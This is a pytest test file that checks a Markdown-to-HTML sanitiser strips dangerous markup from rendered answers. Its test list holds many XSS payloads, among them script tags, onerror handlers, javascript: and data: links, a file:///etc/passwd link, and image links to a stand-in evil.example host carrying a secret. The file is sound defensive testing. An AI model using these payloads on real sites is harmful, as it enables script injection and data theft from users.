"""Hold the Markdown of answers to what a page may safely show."""

import re
import time

import pytest

from services.markdown import MAX_HIGHLIGHT_CHARS, MAX_MARKDOWN_CHARS, to_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div style='position:fixed'>x</div>",
    "<!--><script>alert(1)</script>-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/settings/delete)",
    "[x](/settings#connections/../delete)",
    "[x](//settings#connections)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://ok.example "\\" onmouseover=alert(1) ")',
    "![x](https://evil.example/leak?secret=1)",
    "![x][y]\n\n[y]: https://evil.example/leak",
    '![x" onerror="alert(1)](https://evil.example)',
    "```<script>alert(1)</script>\nx\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x> |",
    "# <script>alert(1)</script>",
    "\0<script>alert(1)</script>",
]
TAG = re.compile(r"<[^>]*>")
ALLOWED = re.compile(
    r"</?(?:p|br|hr|strong|em|s|blockquote|ul|li|h[3-6]|table|thead|tbody|tr|th|td)>"
    r'|<ol(?: start="\d+")?>|</(?:ol|a|span|div|pre|code)>'
    r'|<span class="[A-Za-z0-9 _-]*">|<div class="table-wrap" tabindex="0">|<code(?: class="code")?>'
    r'|<pre(?: class="plain")? tabindex="0">'
    r'|<a href="(?:https?://|mailto:)[^"<>\s]*"(?: title="[^"<>]*")? target="_blank"'
    r' rel="nofollow noopener noreferrer">'
)


@pytest.mark.parametrize("text", ATTACKS)
def test_it_writes_only_tags_that_cannot_act(text: str) -> None:
    html = to_html(text)
    assert [tag for tag in TAG.findall(html) if not ALLOWED.fullmatch(tag)] == []


@pytest.mark.parametrize("text", ATTACKS)
def test_it_keeps_attacks_harmless_inside_other_markdown(text: str) -> None:
    for around in ("> {}", "- {}", "**{}**", "1. a\n\n   {}"):
        html = to_html(around.format(text))
        assert [tag for tag in TAG.findall(html) if not ALLOWED.fullmatch(tag)] == []


def test_it_shows_the_words_of_a_picture_and_never_fetches_it() -> None:
    html = to_html("![the *logo*](https://evil.example/x.png)")
    assert html == "<p>the logo</p>\n"


def test_it_marks_links_as_foreign_and_opens_them_apart() -> None:
    html = to_html("[docs](https://docs.example/a?b=1&c=2)")
    assert 'rel="nofollow noopener noreferrer"' in html
    assert 'target="_blank"' in html
    assert 'href="https://docs.example/a?b=1&amp;c=2"' in html


def test_it_links_to_the_connections_and_to_no_other_page_of_ours() -> None:
    assert '<a href="/settings#connections" target="_blank"' in to_html("[settings page](/settings#connections)")
    assert "<a" not in to_html("[x](/billing) [x](/chat?message=x#connections) [x](settings#connections)")


def test_it_leaves_bare_addresses_alone() -> None:
    assert "<a" not in to_html("see www.example.com and https://example.com")


def test_it_colours_code_with_classes() -> None:
    html = to_html("```yaml\nport: 8080 # fine\n```")
    assert '<span class="nt">port</span>' in html
    assert "style=" not in html


@pytest.mark.parametrize("language", ["", "nosuchlanguage", "x" * 500, "../../etc/passwd", "yaml\u202e"])
def test_it_shows_code_of_an_unknown_language_plainly(language: str) -> None:
    html = to_html(f"```{language}\na < b & c\n```")
    assert "a &lt; b &amp; c" in html
    assert "<span" not in html


def test_it_makes_wide_things_reachable_by_keyboard() -> None:
    html = to_html("| a |\n|---|\n| b |\n\n```\nx\n```")
    assert html.count('tabindex="0"') == 2


def test_it_puts_headings_below_those_of_the_page() -> None:
    assert to_html("# One\n\n###### Six") == "<h3>One</h3>\n<h4>Six</h4>\n"
    assert to_html("### A\n\n# B\n\n## C\n\n# D") == "<h3>A</h3>\n<h3>B</h3>\n<h4>C</h4>\n<h3>D</h3>\n"


def test_it_does_not_colour_a_huge_block() -> None:
    html = to_html("```python\n" + "x = 1\n" * MAX_HIGHLIGHT_CHARS + "```")
    assert "<span" not in html


def test_it_shows_what_is_too_long_as_plain_text() -> None:
    html = to_html("a\n\n" * MAX_MARKDOWN_CHARS + "**the end** <script>")
    assert "**the end** &lt;script&gt;" in html
    assert "<script" not in html


@pytest.mark.parametrize(
    "piece", ["[", "*", "_a", "![", "[a](", ">", "- ", "`a``", "<a ", "&#1;", "|", "**a _b ", "```\n", "\n    x\n1. "]
)
def test_it_is_quick_with_hostile_text(piece: str) -> None:
    started = time.process_time()
    to_html(piece * (MAX_MARKDOWN_CHARS // len(piece)))
    assert time.process_time() - started < 10


def test_it_takes_any_text() -> None:
    for text in ("", " ", "\0", "\ud800", "�", "a\r\nb", "\u2028", "🙂"):
        to_html(text)
